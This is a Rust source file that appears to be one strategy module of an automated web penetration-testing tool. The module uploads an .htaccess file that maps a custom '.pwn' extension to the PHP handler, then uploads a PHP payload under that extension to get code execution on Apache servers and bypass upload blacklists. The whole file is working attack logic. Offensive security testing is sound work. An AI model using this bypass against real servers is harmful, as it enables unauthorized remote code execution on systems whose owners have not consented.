// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Apache `.htaccess` override: map a harmless extension to the PHP handler,
//! then upload the payload under that extension.

use async_trait::async_trait;
use tracing::{debug, info};

use super::common::{php_payload, run_variants, upload_file, Variant};
use super::{Strategy, StrategyMetadata, StrategyTools, TechRequirements};
use crate::analysis::HypothesisName;
use crate::context::AttackContext;
use crate::errors::TransportError;
use crate::http_client::UploadFile;
use crate::observer::BypassTechnique;
use crate::types::StrategyStatus;

const HANDLER_EXTENSION: &str = "pwn";

const METADATA: StrategyMetadata = StrategyMetadata {
    name: "htaccess_upload",
    description: "Upload .htaccess mapping a custom extension to PHP",
    targets_hypotheses: &[
        HypothesisName::HtaccessPossible,
        HypothesisName::ApacheServer,
        HypothesisName::BlacklistFilter,
    ],
    tech_requirements: TechRequirements {
        language: None,
        version_min: None,
        version_max: None,
    },
    confidence_gain: Some(0.9),
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct HtaccessUpload;

#[async_trait]
impl Strategy for HtaccessUpload {
    fn metadata(&self) -> &'static StrategyMetadata {
        &METADATA
    }

    fn applicable(&self, context: &AttackContext) -> bool {
        context
            .tech_stack()
            .and_then(|t| t.web_server.as_deref())
            .map(|server| server.to_ascii_lowercase().contains("apache"))
            .unwrap_or(false)
    }

    async fn execute(
        &self,
        context: &mut AttackContext,
        tools: &mut StrategyTools<'_>,
    ) -> Result<StrategyStatus, TransportError> {
        let config = UploadFile::new(
            ".htaccess",
            format!("AddType application/x-httpd-php .{}", HANDLER_EXTENSION),
        )
        .with_content_type("text/plain");

        let outcome = upload_file(context, tools, &config).await?;
        if outcome.rejected && !outcome.accepted {
            debug!(".htaccess upload rejected");
            return Ok(StrategyStatus::Failure);
        }
        info!("Uploaded .htaccess handler for .{}", HANDLER_EXTENSION);

        let payload = UploadFile::new(
            format!("exploit.{}", HANDLER_EXTENSION),
            php_payload(tools.payload),
        )
        .with_content_type("application/octet-stream");

        run_variants(
            context,
            tools,
            BypassTechnique::HtaccessOverride,
            vec![Variant::new(payload)],
        )
        .await
    }
}
